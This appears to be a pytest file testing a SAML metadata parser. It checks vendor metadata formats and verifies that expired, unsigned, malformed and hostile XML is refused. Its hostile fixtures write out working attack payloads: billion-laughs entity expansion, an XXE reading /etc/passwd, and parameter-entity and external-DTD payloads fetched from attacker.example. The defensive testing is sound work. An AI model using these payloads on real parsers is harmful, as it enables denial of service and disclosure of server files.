"""SAML metadata parsing: the vendors' shapes read right; expired, unsigned, malformed and hostile
documents refused with their reason codes before anything (Cognito, the devidp) sees them."""

from __future__ import annotations

from datetime import timedelta

import pytest

from tenant_sso.exceptions import ConfigurationError, InvalidMetadata
from tenant_sso.saml.metadata import MAX_METADATA_BYTES, parse_metadata, read_signing_certificates
from tests.support.saml import (
    ENTRA_TENANT,
    adfs_metadata,
    entra_metadata,
    expired_certificate,
    google_metadata,
    now_utc,
    okta_metadata,
    valid_certificate,
)

NOW = now_utc()


def refused(xml: bytes, code: str) -> InvalidMetadata:
    with pytest.raises(InvalidMetadata) as caught:
        parse_metadata(xml, now=NOW)
    assert caught.value.code == code, caught.value
    return caught.value


# -- the vendors' shapes -----------------------------------------------------------------


def test_okta_metadata_gives_entity_id_endpoints_and_certificate_expiry() -> None:
    cert = valid_certificate(NOW, days_left=200)
    md = parse_metadata(okta_metadata([cert]), now=NOW)
    assert md.entity_id == "http://www.okta.com/exk1fcia6d6EMsf331d8"
    assert (
        md.sso_redirect_url
        == md.sso_post_url
        == ("https://acme.okta.com/app/acme_tenantsso_1/exk1fcia6d6EMsf331d8/sso/saml")
    )
    assert md.slo_url == ""
    assert md.want_authn_requests_signed is False
    assert [c.days_left(NOW) for c in md.signing_certificates] == [200]
    assert md.signing_certificates[0].subject == "CN=idp.example.com"
    assert "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress" in md.name_id_formats


def test_entra_metadata_in_the_default_namespace_with_a_rollover_certificate() -> None:
    old = valid_certificate(NOW, days_left=10, common_name="Microsoft Azure Federated SSO Certificate")
    new = valid_certificate(NOW, days_left=1000, common_name="Microsoft Azure Federated SSO Certificate 2")
    md = parse_metadata(entra_metadata([old, new]), now=NOW)
    assert md.entity_id == f"https://sts.windows.net/{ENTRA_TENANT}/"
    assert md.sso_url == f"https://login.microsoftonline.com/{ENTRA_TENANT}/saml2"
    assert md.slo_url == md.sso_url
    assert len(md.signing_certificates) == 2
    assert md.earliest_expiry() == md.signing_certificates[0].not_after


def test_adfs_metadata_keeps_signing_keys_only_and_ignores_its_sp_role() -> None:
    signing = valid_certificate(NOW, common_name="ADFS Signing - adfs.contoso.com")
    encryption = valid_certificate(NOW, days_left=5, common_name="ADFS Encryption - adfs.contoso.com")
    md = parse_metadata(adfs_metadata([signing], encryption=encryption), now=NOW)
    assert md.entity_id == "http://adfs.contoso.com/adfs/services/trust"
    assert md.sso_url == "https://adfs.contoso.com/adfs/ls/"
    assert [c.subject for c in md.signing_certificates] == ["CN=ADFS Signing - adfs.contoso.com"]


def test_google_metadata_with_valid_until() -> None:
    md = parse_metadata(
        google_metadata([valid_certificate(NOW)], valid_until=NOW + timedelta(days=1800)), now=NOW
    )
    assert md.entity_id == "https://accounts.google.com/o/saml2?idpid=C01abcde2"
    assert md.sso_redirect_url == "https://accounts.google.com/o/saml2/idp?idpid=C01abcde2"
    assert md.valid_until == NOW + timedelta(days=1800)


def test_an_expired_certificate_next_to_a_valid_one_is_a_rollover_and_is_kept() -> None:
    md = parse_metadata(okta_metadata([expired_certificate(NOW), valid_certificate(NOW)]), now=NOW)
    assert sorted(c.days_left(NOW) < 0 for c in md.signing_certificates) == [False, True]


def test_the_same_certificate_twice_is_listed_once() -> None:
    cert = valid_certificate(NOW)
    assert len(parse_metadata(okta_metadata([cert, cert]), now=NOW).signing_certificates) == 1


def test_a_key_descriptor_without_use_signs_too() -> None:
    xml = okta_metadata([valid_certificate(NOW)]).replace(b' use="signing"', b"")
    assert len(parse_metadata(xml, now=NOW).signing_certificates) == 1


def test_metadata_wrapped_in_entities_descriptor_with_one_idp() -> None:
    inner = okta_metadata([valid_certificate(NOW)]).split(b"?>", 1)[1]
    xml = (
        b'<md:EntitiesDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata">'
        + inner
        + b"</md:EntitiesDescriptor>"
    )
    assert parse_metadata(xml, now=NOW).entity_id == "http://www.okta.com/exk1fcia6d6EMsf331d8"


def test_cognito_copy_with_expired_certificates_is_read_for_tracking() -> None:
    certs = read_signing_certificates(okta_metadata([expired_certificate(NOW, days_ago=3)]))
    assert [c.days_left(NOW) for c in certs] == [-3]


# -- expired -------------------------------------------------------------------------------


def test_only_expired_certificates_are_refused() -> None:
    error = refused(
        okta_metadata([expired_certificate(NOW, days_ago=2)]), "saml_metadata_certificate_expired"
    )
    assert "expired on" in error.message
    assert isinstance(error, ConfigurationError)  # in the package's error tree


def test_a_certificate_not_valid_yet_is_refused() -> None:
    from tests.support.saml import make_certificate

    future = make_certificate(not_before=NOW + timedelta(days=2), not_after=NOW + timedelta(days=400))
    refused(okta_metadata([future]), "saml_metadata_certificate_not_yet_valid")


def test_metadata_past_its_valid_until_is_refused() -> None:
    xml = google_metadata([valid_certificate(NOW)], valid_until=NOW - timedelta(hours=1))
    refused(xml, "saml_metadata_expired")


# -- unsigned / no certificate, incomplete ------------------------------------------------------


def test_no_signing_certificate_is_refused() -> None:
    refused(okta_metadata([]), "saml_metadata_no_signing_certificate")


def test_an_encryption_key_alone_is_not_a_signing_certificate() -> None:
    xml = okta_metadata([valid_certificate(NOW)]).replace(b'use="signing"', b'use="encryption"')
    refused(xml, "saml_metadata_no_signing_certificate")


def test_a_certificate_that_is_not_one_is_refused() -> None:
    xml = okta_metadata([b"not a certificate at all"])
    refused(xml, "saml_metadata_bad_certificate")
    xml = okta_metadata([valid_certificate(NOW)]).replace(b"<ds:X509Certificate>", b"<ds:X509Certificate>!!")
    refused(xml, "saml_metadata_bad_certificate")


def test_no_entity_id_is_refused() -> None:
    xml = okta_metadata([valid_certificate(NOW)]).replace(
        b'entityID="http://www.okta.com/exk1fcia6d6EMsf331d8"', b""
    )
    refused(xml, "saml_metadata_no_entity_id")
    xml = okta_metadata([valid_certificate(NOW)]).replace(
        b"http://www.okta.com/exk1fcia6d6EMsf331d8", b"x" * 1025
    )
    refused(xml, "saml_metadata_no_entity_id")


def test_no_sso_endpoint_is_refused() -> None:
    xml = okta_metadata([valid_certificate(NOW)]).replace(b"bindings:HTTP-", b"bindings:SOAP-")
    refused(xml, "saml_metadata_no_sso_endpoint")


def test_an_http_sso_endpoint_is_refused() -> None:
    xml = okta_metadata([valid_certificate(NOW)]).replace(b"https://acme.okta.com", b"http://acme.okta.com")
    refused(xml, "saml_metadata_insecure_endpoint")


def test_service_provider_metadata_is_not_an_idp() -> None:
    xml = (
        adfs_metadata([valid_certificate(NOW)])
        .replace(b"<IDPSSODescriptor", b"<XIDPSSODescriptor")
        .replace(b"</IDPSSODescriptor>", b"</XIDPSSODescriptor>")
    )
    refused(xml, "saml_metadata_not_idp")
    refused(b'<EntityDescriptor xmlns="urn:example:other" entityID="x"/>', "saml_metadata_not_idp")


def test_two_idps_in_one_document_are_ambiguous() -> None:
    one = okta_metadata([valid_certificate(NOW)]).split(b"?>", 1)[1]
    two = one.replace(b"exk1fcia6d6EMsf331d8", b"exk2")
    xml = (
        b'<md:EntitiesDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata">'
        + one
        + two
        + b"</md:EntitiesDescriptor>"
    )
    refused(xml, "saml_metadata_ambiguous")


# -- malformed -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "xml",
    [
        b"",
        b"   ",
        b"<md:EntityDescriptor",
        b'{"issuer": "https://idp.example.com"}',
        b"<a><b></a>",
        b"<html><body>Sign in to Okta</body></html>"[:20],
    ],
)
def test_malformed_documents_are_refused(xml: bytes) -> None:
    refused(xml, "saml_metadata_malformed")


def test_a_bad_valid_until_is_malformed() -> None:
    xml = okta_metadata([valid_certificate(NOW)]).replace(
        b"<md:EntityDescriptor ", b'<md:EntityDescriptor validUntil="next tuesday" '
    )
    refused(xml, "saml_metadata_malformed")


def test_an_html_login_page_is_not_metadata() -> None:
    refused(b"<html><body>Sign in</body></html>", "saml_metadata_not_idp")


def test_too_large_documents_are_refused_before_parsing() -> None:
    xml = okta_metadata([valid_certificate(NOW)])
    padded = xml.replace(
        b"</md:EntityDescriptor>", b"<!--" + b"x" * MAX_METADATA_BYTES + b"--></md:EntityDescriptor>"
    )
    refused(padded, "saml_metadata_too_large")


# -- hostile -----------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="&lol9;"/>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE md [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="&xxe;"/>
"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE md [ <!ENTITY % remote SYSTEM "https://attacker.example/evil.dtd"> %remote; ]>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="x"/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE md SYSTEM "https://attacker.example/metadata.dtd">
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="x"/>
"""


@pytest.mark.parametrize(
    "xml", [BILLION_LAUGHS, XXE, XXE_PARAMETER, EXTERNAL_DTD], ids=["laughs", "xxe", "xxe-param", "dtd"]
)
def test_hostile_documents_are_refused_without_expanding_or_fetching(xml: bytes) -> None:
    error = refused(xml, "saml_metadata_forbidden_xml")
    assert "root:" not in error.message  # nothing of /etc/passwd


def test_a_valid_document_behind_a_doctype_is_refused_too() -> None:
    xml = okta_metadata([valid_certificate(NOW)]).replace(b"?>", b"?><!DOCTYPE md:EntityDescriptor>", 1)
    refused(xml, "saml_metadata_forbidden_xml")


def test_text_is_accepted_like_bytes() -> None:
    xml = okta_metadata([valid_certificate(NOW)]).decode()
    assert parse_metadata(xml, now=NOW).entity_id.startswith("http://www.okta.com/")  # type: ignore[arg-type]


def test_a_certificate_longer_than_cognito_takes_is_refused() -> None:
    padded = okta_metadata([valid_certificate(NOW)]).replace(b"<ds:X509Certificate>", b"<ds:X509Certificate>" + b"A" * 4096, 1)
    refused(padded, "saml_metadata_certificate_too_long")


def test_deeply_nested_documents_are_refused_without_a_crash() -> None:
    depth = 100_000  # 700 kB: under the size limit, far deeper than any metadata
    xml = b'<md:EntitiesDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata">' + b"<a>" * depth + b"</a>" * depth
    refused(xml + b"</md:EntitiesDescriptor>", "saml_metadata_not_idp")
